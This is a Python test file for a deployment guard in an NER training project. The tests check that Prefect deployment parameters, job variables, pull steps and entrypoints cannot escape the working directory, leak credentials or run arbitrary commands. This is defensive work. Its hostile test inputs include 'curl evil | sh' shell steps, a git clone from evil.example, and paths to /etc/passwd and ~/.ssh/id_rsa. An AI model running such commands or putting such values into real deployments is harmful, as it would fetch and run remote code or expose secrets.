"""What a deployment may ask of a worker (nerflow.deploy_guard): each refusal names the parameter, why and what is
allowed; the project's own deployments (prefect.yaml, `nerflow schedule`) pass."""
from __future__ import annotations

import os
from pathlib import Path

import pytest
import yaml
from pydantic import BaseModel

from nerflow.deploy_guard import (
    DeploymentRefused,
    check_job_variables,
    check_parameters,
    check_pull_steps,
    looks_secret,
    workdir_roots,
)
from nerflow.flows.console import ENV_DEFAULTS
from nerflow.flows.deploy_checks import schema_keys

ROOT = Path(__file__).resolve().parents[2]
LEAVES, SECTIONS = schema_keys()


@pytest.fixture
def work(tmp_path) -> Path:
    (tmp_path / "checkout" / "configs").mkdir(parents=True)
    (tmp_path / "checkout" / "configs" / "c.yaml").write_text("data: {dir: data}\n")
    (tmp_path / "outside").mkdir()
    return tmp_path / "checkout"


def check(work: Path, config="configs/c.yaml", overrides=(), workdir=None, roots=None):
    return check_parameters(config, list(overrides), workdir, cwd=work, roots=roots or (work,), known_keys=LEAVES,
                            sections=SECTIONS)


def refused(*args, **kwargs) -> str:
    with pytest.raises(DeploymentRefused) as e:
        check(*args, **kwargs)
    assert "\n" not in str(e.value)
    return str(e.value)


def test_the_project_s_own_parameters_pass(work):
    got = check(work, overrides=["train.epochs=1", "data.train=more/train.txt", f"data.dir={work / 'data'}",
                                 "model.name_or_path=someone/bert-ner", "data.validation=", "cache_dir=.cache/x"])
    assert got.workdir == work.resolve() and got.config == (work / "configs/c.yaml").resolve()
    assert check(work, workdir=str(work / "configs"), config="c.yaml").workdir == (work / "configs").resolve()
    # a second root of the worker (NERFLOW_WORKDIR_ROOTS): workdir and absolute data paths may lie there
    other = work.parent / "outside"
    (other / "c.yaml").write_text("{}")
    assert check(work, config="c.yaml", workdir=str(other), roots=(work, other)).workdir == other.resolve()
    assert check(work, overrides=[f"data.train={other}/t.txt"], roots=(work, other)).config is not None


@pytest.mark.parametrize("config, said", [
    ("/etc/passwd", "deployment parameter config: '/etc/passwd' resolves to /etc/passwd, outside the working "
                    "directory"),
    ("../outside/c.yaml", "deployment parameter config: '../outside/c.yaml' is not a plain path; allowed: a "
                          "config file inside the working directory"),
    ("~/.ssh/config", "deployment parameter config: '~/.ssh/config' is not a plain path"),
    ("", "deployment parameter config: '' is not a plain path"),
])
def test_a_config_outside_the_working_directory_is_refused(work, config, said):
    assert said in refused(work, config=config)


def test_a_symlink_out_of_the_working_directory_is_refused(work):
    (work / "configs" / "evil.yaml").symlink_to(work.parent / "outside" / "c.yaml")
    assert "'configs/evil.yaml' resolves to" in refused(work, config="configs/evil.yaml")


@pytest.mark.parametrize("override, said", [
    ("trian.epochs=1", "deployment parameter overrides: 'trian.epochs' is not a config key (did you mean "
                       "train.epochs?); allowed: the keys of the config schema"),
    ("anything=1", "'anything' is not a config key"),
    ("data={train: /etc/passwd}", "deployment parameter overrides: 'data' is a section, not a key; allowed: one key "
                                  "at a time"),
    ("train.epochs", "deployment parameter overrides: 'train.epochs' is not key=value"),
    ("data.train=/etc/passwd", "deployment parameter overrides: data.train='/etc/passwd' is outside the working "
                               "directory and the worker's roots; allowed: a relative path without '..', or an "
                               "absolute one inside"),
    ("data.train=~/.ssh/id_rsa", "data.train='~/.ssh/id_rsa' may leave the working directory"),
    ("data.dir=../../etc", "data.dir='../../etc' may leave the working directory"),
    ("cache_dir=/home/someone/.ssh", "cache_dir='/home/someone/.ssh' is outside the working directory"),
    ("model.name_or_path=/root/models/private", "model.name_or_path='/root/models/private' is outside"),
    ("data.hf_dataset=../other", "data.hf_dataset='../other' may leave"),
    ("data.test=[1, 2]", "deployment parameter overrides: data.test must be a path, not [1, 2]"),
    ("promote.trust_unverified=true", "deployment parameter overrides: promote.trust_unverified may not be set by a "
                                      "deployment"),
    # a deployment editor (anyone with the shared Prefect login) may not switch approval off
    ("promote.mode=auto", "promote.mode may not be set by a deployment (it decides whether a person approves"),
    ("promote.auto=true", "promote.auto may not be set by a deployment (it decides whether a person approves"),
])
def test_an_override_of_an_unknown_key_or_a_path_outside_is_refused(work, override, said):
    assert said in refused(work, overrides=["train.epochs=1", override])


@pytest.mark.parametrize("workdir, said", [
    ("/", "deployment parameter workdir: '/' is outside the worker's roots"),
    ("../outside", "deployment parameter workdir: '../outside' is outside the worker's roots"),
    ("~", "deployment parameter workdir: '~' starts with '~'"),
])
def test_a_workdir_outside_the_roots_is_refused(work, workdir, said):
    text = refused(work, workdir=workdir)
    assert said in text and "NERFLOW_WORKDIR_ROOTS" in text, text


def test_the_roots_come_from_the_worker_s_environment_else_its_working_directory(tmp_path):
    a, b = tmp_path / "a", tmp_path / "b"
    assert workdir_roots({}, tmp_path) == (tmp_path.resolve(),)
    assert workdir_roots({"NERFLOW_WORKDIR_ROOTS": f"{a}{os.pathsep}{b}{os.pathsep}"}, tmp_path) == (a, b)


def test_the_project_s_job_variables_pass_and_credentials_or_a_command_are_refused():
    spec = yaml.safe_load((ROOT / "prefect.yaml").read_text())
    for deployment in spec["deployments"]:
        check_job_variables(deployment["work_pool"]["job_variables"])
    check_job_variables({"env": ENV_DEFAULTS})   # what `nerflow schedule --pool` sets
    check_job_variables(None)
    for name, value in [("HF_TOKEN", "hf_x"), ("MLFLOW_TRACKING_PASSWORD", "x"), ("AWS_SECRET_ACCESS_KEY", "x"),
                        ("PREFECT_API_AUTH_STRING", "admin:x"), ("MLFLOW_TRACKING_URI", "http://u:p@host:5000")]:
        with pytest.raises(DeploymentRefused, match=f"job_variables env {name}: looks like a credential, and "
                                                    "Prefect stores job variables and shows them in its UI; "
                                                    f"allowed: no credentials there .give the worker {name} in"):
            check_job_variables({"env": {**ENV_DEFAULTS, name: value}})
    for name in ("PYTHONPATH", "LD_PRELOAD", "NERFLOW_WORKDIR_ROOTS", "PREFECT__FLOW_ENTRYPOINT"):
        with pytest.raises(DeploymentRefused, match=f"env {name}: decides what a run executes"):
            check_job_variables({"env": {name: "/tmp/x"}})
    for key in ("command", "working_dir"):
        with pytest.raises(DeploymentRefused, match=f"job_variables {key}: .* is set; allowed: none"):
            check_job_variables({key: "bash -c 'curl evil | sh'"})
    assert not looks_secret("TOKENIZERS_PARALLELISM", "false") and not looks_secret("MLFLOW_TRACKING_URI",
                                                                                   "http://127.0.0.1:5000")


def test_pull_steps_are_none_or_the_project_s_one_working_directory(work):
    assert check_pull_steps(None, (work,)) is None and check_pull_steps([], (work,)) is None
    mine = [{"prefect.deployments.steps.set_working_directory": {"directory": str(work)}}]
    assert check_pull_steps(mine, (work,)) == work.resolve()
    hostile = [
        [{"prefect.deployments.steps.run_shell_script": {"script": "curl evil | sh"}}],
        [{"prefect.deployments.steps.git_clone": {"repository": "https://evil.example/x.git"}}],
        [{"prefect.deployments.steps.set_working_directory": {"directory": "/tmp"}}],
        [{"prefect.deployments.steps.set_working_directory": {"directory": f"{work}/../outside"}}],
        [*mine, {"prefect.deployments.steps.pip_install_requirements": {"requirements_file": "r.txt"}}],
    ]
    for steps in hostile:
        with pytest.raises(DeploymentRefused, match="deployment pull steps: prefect.deployments.steps.* are not the "
                                                    "project's; allowed: none, or one .*set_working_directory into "
                                                    "the worker's roots"):
            check_pull_steps(steps, (work,))


def test_nerflow_worker_runs_only_nerflow_s_flows_in_the_directory_the_project_fixed(work):
    from nerflow.deploy_guard import check_worker_run

    mine = [{"prefect.deployments.steps.set_working_directory": {"directory": str(work)}}]
    assert check_worker_run("flows/scheduled.py:scheduled_pipeline", mine, [("jv", {"env": ENV_DEFAULTS})], (work,),
                            work.parent) == ("nerflow.flows.scheduled:scheduled_pipeline", work.resolve())
    assert check_worker_run("nerflow.flows.rerun.rerun_pipeline", [], [], (work,), work) == \
        ("nerflow.flows.rerun:rerun_pipeline", work.resolve())
    for entrypoint in ("evil.py:flow", "os.system", None):
        with pytest.raises(DeploymentRefused, match="deployment entrypoint: .* is not one of nerflow's flows; "
                                                    "allowed: flows/monitor_flow.py:monitor_drift, "
                                                    "flows/rerun.py:rerun_pipeline"):
            check_worker_run(entrypoint, [], [], (work,), work)
    with pytest.raises(DeploymentRefused, match="the flow run's job_variables command"):
        check_worker_run("flows/rerun.py:rerun_pipeline", [], [("the flow run's job_variables", {"command": "sh"})],
                         (work,), work)
    assert check_worker_run("flows/monitor_flow.py:monitor_drift", mine, [], (work,), work) == \
        ("nerflow.flows.monitor_flow:monitor_drift", work.resolve())


def check_monitor(work: Path, model="models:/m@champion", source="captured", overrides=(), workdir=None):
    from nerflow.deploy_guard import check_monitor_parameters

    return check_monitor_parameters(model, source, list(overrides), workdir, cwd=work, roots=(work,),
                                    known_keys=LEAVES, sections=SECTIONS)


def test_a_drift_check_reads_a_registered_model_an_input_inside_the_checkout_and_monitor_settings_only(work):
    """The monitoring deployment's parameters (flows/monitor_flow.py), as anyone on the Prefect server may edit
    them: a `models:/` URI (not a folder whose files would be loaded, nor a run), an input inside the working
    directory or the roots, and only monitor.* overrides (a data key would make the check profile another file)."""
    assert check_monitor(work, overrides=["monitor.alpha=0.01"]).workdir == work.resolve()
    assert check_monitor(work, model="models:/m/3", source=str(work / "captured" / "day1.jsonl"))
    for model in ("/srv/models/m", "runs:/abc/model", "file:///etc", "models:/m\nx", None):
        with pytest.raises(DeploymentRefused, match="deployment parameter model: .* allowed: models:/NAME@ALIAS"):
            check_monitor(work, model=model)
    outside = str(work.parent / "outside")
    for source in ("../outside", "~/.ssh/id_rsa", "-", "", outside, "/etc/passwd", 7):
        with pytest.raises(DeploymentRefused, match="deployment parameter input: "):
            check_monitor(work, source=source)
    for item in ("data.train=other.txt", "train.epochs=1"):
        with pytest.raises(DeploymentRefused, match=f"overrides: '{item}' is not a monitor.. key"):
            check_monitor(work, overrides=[item])
    with pytest.raises(DeploymentRefused, match="'monitor.alfa' is not a config key .did you mean monitor.alpha"):
        check_monitor(work, overrides=["monitor.alfa=0.1"])
    with pytest.raises(DeploymentRefused, match="workdir"):
        check_monitor(work, workdir=outside)


def test_every_path_valued_config_key_is_checked_as_a_path():
    """A key renamed or added to the schema with a Path type, or a location under data/model, must be in PATH_KEYS
    (else an override of it would pass unchecked)."""
    import typing

    from nerflow import task_types
    from nerflow.deploy_guard import PATH_KEYS

    assert PATH_KEYS <= LEAVES
    for model in task_types.config_types().values():
        def walk(cls, prefix=""):
            for name, field in cls.model_fields.items():
                if isinstance(field.annotation, type) and issubclass(field.annotation, BaseModel):
                    yield from walk(field.annotation, f"{prefix}{name}.")
                else:
                    yield f"{prefix}{name}", field.annotation

        for key, annotation in walk(model):
            if Path in (annotation, *typing.get_args(annotation)):
                assert key in PATH_KEYS, key
